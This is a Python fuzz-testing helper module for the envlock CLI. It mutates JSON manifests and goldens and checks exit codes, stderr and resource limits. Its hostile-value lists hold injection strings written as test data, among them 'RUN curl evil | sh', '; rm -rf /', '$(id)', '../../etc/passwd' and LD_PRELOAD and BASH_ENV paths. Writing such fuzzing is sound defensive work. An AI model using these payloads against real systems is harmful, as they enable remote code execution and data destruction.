"""Shared pieces of the fuzz layer: input strategies, the resealer, and the CLI properties.

The properties every command must keep, whatever it is given (README: exit codes, one line):
exit code in {0, 1, 2, 3}; at most one line on stderr (exactly one ``envlock: error: ...`` line
for exit 2 and 3); never a traceback; bounded time (a subprocess timeout) and memory (RLIMIT_AS).
"""

from __future__ import annotations

import contextlib
import copy
import json
import os
import resource
import signal
import subprocess
import sys
import time
import traceback
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hypothesis import settings
from hypothesis import strategies as st
from pydantic import ValidationError
from typer.testing import CliRunner

from envlock.cli import app
from envlock.models import Manifest, canonical_sha256, with_digest
from tests.helpers import DATA_DIR, REFERENCE_GOLDEN

REFERENCE_MANIFEST = DATA_DIR / "manifests" / "intel_xeon_amx_2vcpu_tf2.21.0.json"
GOLDEN_DATA: dict[str, Any] = json.loads(REFERENCE_GOLDEN.read_text())
MANIFEST_DATA: dict[str, Any] = json.loads(REFERENCE_MANIFEST.read_text())
# A probe the reference golden recorded as skipped (no GPU): `verify --probes gpu.matmul` runs the
# whole verify path (load, validate, environment, capture, diff, report) but never starts TensorFlow.
# It compares nothing, so a valid golden ends NOTHING VERIFIED: exit 3 with one line on stderr.
CHEAP_PROBE = "gpu.matmul"
EXIT_CODES = {0, 1, 2, 3}
SUBPROCESS_TIMEOUT_S = 60
MEMORY_LIMIT_BYTES = 4 * 1024**3  # address space; numpy/OpenBLAS reserve a lot of it up front


def examples(n: int) -> settings:
    """A fixed number of examples (x10 under ENVLOCK_FUZZ_PROFILE=long)."""
    scale = 10 if os.environ.get("ENVLOCK_FUZZ_PROFILE") == "long" else 1
    return settings(max_examples=n * scale)


# ---------------------------------------------------------------- JSON values


@dataclass(frozen=True)
class Raw:
    """JSON text ``json.dumps`` cannot write: 100,000 levels of nesting, a 5,000-digit number."""

    text: str


json_scalars = (st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True, allow_infinity=True)
                | st.text(max_size=30))
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=10), children, max_size=5),
    max_leaves=25,
)


def deep(depth: int, kind: str = "list") -> Raw:
    if kind == "list":
        return Raw("[" * depth + "0" + "]" * depth)
    return Raw('{"a":' * depth + "0" + "}" * depth)


HOSTILE_VALUES: list[Any] = [
    -1, 0, 2**31, 2**63, -(2**63) - 1, 10**30, 1e308, -1e308, float("nan"), float("inf"), float("-inf"),
    Raw("9" * 5000), Raw("-" + "9" * 5000), Raw("1e999999"), "", "0", "2", "42", "1", "true", "x" * 200_000,
    "a\nb", "\x1b[31mred\x1b[0m", "\x00", "../../etc/passwd", "$(id)", True, False, None, [], {}, [[[]]],
    deep(100_000), deep(100_000, "dict"), deep(2_000),
]

# Values that reach the environment, the Dockerfile, the child process and TF (class 1, 3, 4).
TARGETED: list[tuple[tuple[Any, ...], Any]] = [
    (("lockdown", "environment", "PYTHONPATH"), "/tmp/evil"),
    (("lockdown", "environment", "LD_PRELOAD"), "/tmp/evil.so"),
    (("lockdown", "environment", "BASH_ENV"), "/tmp/evil.sh"),
    (("lockdown", "environment", "TF_ENABLE_ONEDNN_OPTS"), "1\nRUN curl evil | sh"),
    (("lockdown", "environment", "OMP_NUM_THREADS"), "x" * 100_000),
    (("lockdown", "environment", "CUDA_CACHE_PATH"), "https://user:pass@example.com/?token=abc"),
    (("lockdown", "intra_op_threads"), -1),
    (("lockdown", "inter_op_threads"), -5),
    (("lockdown", "intra_op_threads"), 10**9),
    (("lockdown", "seed"), -1),
    (("lockdown", "seed"), 2**64),
    (("lockdown", "seed"), "42"),
    (("lockdown", "op_determinism"), 1),
    (("repeat",), 10**9),
    (("repeat",), "2"),
    (("probes",), []),
    (("schema_version",), 99),
    (("manifest", "schema_version"), 99),
    (("manifest", "schema_version"), "1"),
    (("manifest", "digest"), "sha256:" + "0" * 64),
    (("manifest", "environment", "LD_PRELOAD"), "/tmp/evil.so"),
    (("manifest", "python", "version"), "3.11\nRUN id"),
    (("manifest", "tensorflow", "version"), "2.21.0; rm -rf /"),
    (("manifest", "host", "architecture"), "x86_64\n"),
    (("probes", 0, "outputs", 0, "sample_b64"), "!!!not base64"),
    (("probes", 0, "outputs", 0, "sample_stride"), 10**18),
    (("probes", 0, "outputs", 0, "shape"), [10**9, 10**9]),
    (("probes", 0, "outputs", 0, "dtype"), "object"),
]


def json_paths(data: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(data, dict):
        for key, value in data.items():
            found += json_paths(value, (*prefix, key))
    elif isinstance(data, list):
        for index, value in enumerate(data[:3]):  # a few elements of each list are enough
            found += json_paths(value, (*prefix, index))
    return found


GOLDEN_PATHS = json_paths(GOLDEN_DATA)
MANIFEST_PATHS = json_paths(MANIFEST_DATA)


def _set(data: Any, path: Sequence[Any], value: Any, *, delete: bool = False) -> None:
    node = data
    for part in path[:-1]:
        node = node[part]
    if delete and isinstance(node, dict):
        node.pop(path[-1], None)
    elif isinstance(node, dict) or (isinstance(node, list) and isinstance(path[-1], int) and path[-1] < len(node)):
        node[path[-1]] = value


def _get(data: Any, path: Sequence[Any]) -> Any:
    for part in path:
        data = data[part]
    return data


def _other_type(value: Any) -> Any:
    """The lax-coercion twins of a value: "2" for 2, 1 for True, ..."""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return str(value)
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return {"0": value}
    if isinstance(value, dict):
        return list(value.values())
    return 0


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any], paths: list[tuple[Any, ...]], *,
            targeted: bool = True) -> dict[str, Any]:
    """A real golden or manifest with 1-3 mutations: changed type, hostile value, deleted key, deep nesting."""
    data = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, 3))):
        op = draw(st.sampled_from(["type", "hostile", "delete", "json", "targeted" if targeted else "hostile"]))
        if op == "targeted":
            path, value = draw(st.sampled_from(TARGETED))
            with contextlib.suppress(KeyError, IndexError, TypeError):
                _set(data, path, value)
            continue
        path = draw(st.sampled_from(paths))
        try:
            if op == "type":
                _set(data, path, _other_type(_get(data, path)))
            elif op == "hostile":
                _set(data, path, draw(st.sampled_from(HOSTILE_VALUES)))
            elif op == "delete":
                _set(data, path, None, delete=True)
            else:
                _set(data, path, draw(json_values))
        except (KeyError, IndexError, TypeError):
            pass  # an earlier mutation changed the shape under this path
    return data


def reseal(data: dict[str, Any], *, inner: bool = True) -> dict[str, Any]:
    """Recompute the digests (the nested manifest's unless ``inner`` is False, then the golden's) so a
    mutation gets past the integrity check -- what anyone can do, the digest being a checksum. The
    golden's digest covers the document as written (what load_golden checks), so it is computed over
    the raw data, wrong types and all. Invalid data stays as it is."""
    if _has_raw(data):
        return data
    try:
        if data.get("kind") == "envlock.golden":
            if inner and isinstance(data.get("manifest"), dict):
                with contextlib.suppress(ValidationError, ValueError, TypeError, RecursionError):
                    data["manifest"]["digest"] = with_digest(Manifest.model_validate(data["manifest"])).digest
            data["digest"] = canonical_sha256({k: v for k, v in data.items() if k not in ("digest", "signature")})
        else:
            data["digest"] = with_digest(Manifest.model_validate(data)).digest
    except (ValidationError, ValueError, TypeError, RecursionError, AttributeError):
        pass
    return data


def _has_raw(data: Any) -> bool:
    if isinstance(data, Raw):
        return True
    if isinstance(data, dict):
        return any(_has_raw(v) for v in data.values())
    if isinstance(data, list):
        return any(_has_raw(v) for v in data)
    return False


def dump(data: Any) -> bytes:
    """JSON bytes, with ``Raw`` values spliced in as written."""
    raws: list[str] = []

    def splice(value: Any) -> Any:
        if isinstance(value, Raw):
            raws.append(value.text)
            return f"@@RAW{len(raws) - 1}@@"
        raise TypeError(type(value).__name__)

    def walk(value: Any) -> Any:
        if isinstance(value, Raw):
            return splice(value)
        if isinstance(value, dict):
            return {k: walk(v) for k, v in value.items()}
        if isinstance(value, list):
            return [walk(v) for v in value]
        return value

    text = json.dumps(walk(data), sort_keys=True)
    for index, raw in enumerate(raws):
        text = text.replace(f'"@@RAW{index}@@"', raw)
    return text.encode("utf-8")


def cheap_probe_skipped(data: dict[str, Any]) -> dict[str, Any]:
    """Keep the cheap probe a recorded skip whatever the mutation did, so verify never starts TF."""
    probes = data.get("probes")
    if isinstance(probes, list):
        for record in probes:
            if isinstance(record, dict) and record.get("name") == CHEAP_PROBE:
                record["status"] = "skipped"
    return data


@dataclass(frozen=True)
class FuzzInput:
    """File content with a short repr: a failing example names its class and mutations, not 100 KB."""

    label: str
    content: bytes

    def __repr__(self) -> str:
        head = self.content[:60]
        return f"FuzzInput({self.label}, {len(self.content)} bytes, starts {head!r})"


def _describe(base: dict[str, Any], data: dict[str, Any], path: tuple[Any, ...] = ()) -> list[str]:
    """Where a mutated document differs from its base, shortly (for failure messages)."""
    if isinstance(base, dict) and isinstance(data, dict):
        out: list[str] = []
        for key in sorted(set(base) | set(data), key=str):
            if key not in data:
                out.append(f"del {'.'.join(map(str, (*path, key)))}")
            elif key not in base:
                out.append(f"{'.'.join(map(str, (*path, key)))}={_short(data[key])}")
            else:
                out += _describe(base[key], data[key], (*path, key))
        return out
    if isinstance(base, list) and isinstance(data, list) and len(base) == len(data):
        return [d for i, (b, v) in enumerate(zip(base, data, strict=False)) for d in _describe(b, v, (*path, i))]
    if base == data and type(base) is type(data):
        return []
    return [f"{'.'.join(map(str, path))}={_short(data)}"]


def _short(value: Any) -> str:
    if isinstance(value, Raw):
        return f"Raw({value.text[:12]}... {len(value.text)} chars)"
    text = repr(value)
    return text if len(text) <= 60 else text[:57] + "..."


def _mutation_input(kind: str, base: dict[str, Any], data: dict[str, Any]) -> FuzzInput:
    changes = [c for c in _describe(base, data) if not c.startswith(("digest=", "manifest.digest="))]
    return FuzzInput(f"{kind} mutation resealed [{'; '.join(changes)[:400]}]", dump(data))


# file contents: arbitrary bytes, arbitrary JSON, mutations of a real golden / manifest (resealed)
arbitrary_bytes = st.binary(max_size=2000).map(lambda b: FuzzInput("bytes", b))
arbitrary_json = json_values.map(lambda v: FuzzInput("json", json.dumps(v).encode()))
golden_mutations = mutated(GOLDEN_DATA, GOLDEN_PATHS).map(cheap_probe_skipped).map(reseal).map(
    lambda d: _mutation_input("golden", GOLDEN_DATA, d))
manifest_mutations = mutated(MANIFEST_DATA, MANIFEST_PATHS).map(reseal).map(
    lambda d: _mutation_input("manifest", MANIFEST_DATA, d))
any_file = st.one_of(arbitrary_bytes, arbitrary_json, golden_mutations, manifest_mutations)


# ---------------------------------------------------------------- properties


def assert_cli_result(exit_code: int, stderr: str, stdout: str, what: str) -> None:
    assert "Traceback" not in stderr and "Traceback" not in stdout, f"{what}: traceback\n{stderr[-3000:]}"
    assert exit_code in EXIT_CODES, f"{what}: exit code {exit_code}; stderr: {stderr[-2000:]!r}"
    lines = stderr.splitlines()
    if what.startswith("envlock watch"):  # the daemon logs one JSON object per check on stderr (README)
        lines = [line for line in lines if not line.startswith("{")]
    if what.startswith("envlock build"):  # build reports progress on stderr by design (README); the error is last
        errors = [line for line in lines if line.startswith("envlock: error: ")]
        assert len(errors) <= 1 and (not errors or lines[-1] == errors[0]), f"{what}: stderr {stderr[-2000:]!r}"
        lines = lines[-1:] if errors else []
    assert len(lines) <= 1, f"{what}: {len(lines)} lines on stderr: {stderr[-2000:]!r}"
    if exit_code in (2, 3):
        assert len(lines) == 1 and lines[0].startswith("envlock: error: "), f"{what}: exit {exit_code}: {stderr!r}"


_runner = CliRunner()


def invoke(args: list[str], env: dict[str, str] | None = None) -> tuple[int, str, str]:
    """The CLI in this process (Typer's runner): fast enough for hundreds of examples."""
    handlers = {s: signal.getsignal(s) for s in (signal.SIGTERM, signal.SIGINT)}
    environ = dict(os.environ)
    started = time.monotonic()
    try:
        result = _runner.invoke(app, args, env=env)
    finally:  # the watch daemon installs signal handlers and a command may write to os.environ
        for sig, handler in handlers.items():
            signal.signal(sig, handler)
        os.environ.clear()
        os.environ.update(environ)
    what = f"envlock {' '.join(a[:80] for a in args)}"
    exc = result.exception
    if exc is not None and not isinstance(exc, SystemExit):
        tb = "".join(traceback.format_exception(type(exc), exc, exc.__traceback__))[-4000:]
        raise AssertionError(f"{uncaught(exc, what)}\n{tb}")
    assert time.monotonic() - started < SUBPROCESS_TIMEOUT_S, f"{what}: took over {SUBPROCESS_TIMEOUT_S} s"
    assert_cli_result(result.exit_code, result.stderr, result.stdout, what)
    return result.exit_code, result.stdout, result.stderr


class NoTensorflow:
    """A meta-path finder that makes ``import tensorflow`` fail (lockdown's fuzzing stops there),
    while ``"tensorflow" in sys.modules`` stays false, as in a fresh user process."""

    def find_spec(self, name: str, path: Any = None, target: Any = None) -> None:
        if name == "tensorflow" or name.startswith("tensorflow."):
            raise ImportError("TensorFlow is kept out of the fuzz layer")


def uncaught(exc: BaseException, what: str) -> AssertionError:
    """A short failure for an exception that escaped envlock: its type, message and where it was raised."""
    where = traceback.extract_tb(exc.__traceback__)[-1]
    return AssertionError(f"{what}: uncaught {type(exc).__name__}: {exc!s:.300} "
                          f"(at {Path(where.filename).name}:{where.lineno})")


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT_BYTES, MEMORY_LIMIT_BYTES))
    os.setsid()  # its own process group: a timeout kills whatever it started too


def run_cli(args: list[str], *, timeout: float = SUBPROCESS_TIMEOUT_S, env: dict[str, str] | None = None,
            cwd: Path | None = None) -> tuple[int, str, str]:
    """The real CLI in a fresh process under a memory limit and a timeout; the properties checked."""
    what = f"envlock {' '.join(a[:80] for a in args)}"
    proc = subprocess.Popen([sys.executable, "-m", "envlock", *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, env=env, cwd=cwd,
                            preexec_fn=_limit_memory)  # noqa: PLW1509 - setrlimit must run in the child
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        raise AssertionError(f"{what}: no answer within {timeout} s (a hang)") from None
    stdout, stderr = out.decode(errors="replace"), err.decode(errors="replace")
    assert proc.returncode >= 0, f"{what}: killed by signal {-proc.returncode}; stderr: {stderr[-2000:]!r}"
    assert_cli_result(proc.returncode, stderr, stdout, what)
    return proc.returncode, stdout, stderr
